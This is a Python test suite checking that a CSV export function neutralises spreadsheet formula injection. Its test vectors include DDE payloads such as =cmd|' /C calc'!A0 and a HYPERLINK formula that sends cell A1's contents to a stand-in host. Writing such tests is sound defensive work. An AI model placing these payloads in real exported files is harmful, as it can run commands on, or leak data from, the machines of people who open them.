"""What leaves for a spreadsheet runs nothing there (OWASP, CSV Injection)."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.core.spreadsheet import BOM, csv_text, safe_cell

VECTORS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1"',
    "＝1+1",  # noqa: RUF001 - a full-width form
    '=HYPERLINK("http://example.invalid?x="&A1,"klik")',
    'Jalan rusak","=1+1',
    "Jalan rusak;=1+1",
    "Jalan rusak\n=1+1",
    "Jalan rusak\t@x",
]
STARTERS = "=+-@＝＋－＠"  # noqa: RUF001 - the full-width forms


@pytest.mark.parametrize("words", VECTORS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_spreadsheet_finds_a_formula_however_it_cuts_the_file(words, separator):
    file = csv_text(["kolom"], [[words]]).removeprefix(BOM)
    for row in csv.reader(io.StringIO(file), delimiter=separator):
        for cell in row:
            assert cell.lstrip(' "')[:1] not in (*STARTERS, "\t", "\r") or cell == ""


@pytest.mark.parametrize("words", ["Jalan rusak", "NTB.DIKPORA", "2026-07", "a-b", "surat@contoh", "1 + 1", "it's"])
def test_harmless_words_stay_as_they_are(words):
    assert safe_cell(words) == words


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell():
    assert csv_text(["a"], [[-5, 52.2, None, True]]).splitlines()[1] == '-5,52.2,"","true"'


@settings(max_examples=50, database=None, deadline=None)
@given(st.text(alphabet=[*"=+-@;,\t\r\n|\"' ab", *STARTERS], max_size=12))
def test_any_words_come_out_of_a_file_harmless(words):
    (_header, (cell,)) = csv.reader(io.StringIO(csv_text(["kolom"], [[words]]).removeprefix(BOM), newline=""))
    assert not cell.lstrip(' "').startswith(tuple(STARTERS)) and not cell.startswith(("\t", "\r", "\n"))
    assert cell.replace("'", "") == words.replace("'", "")
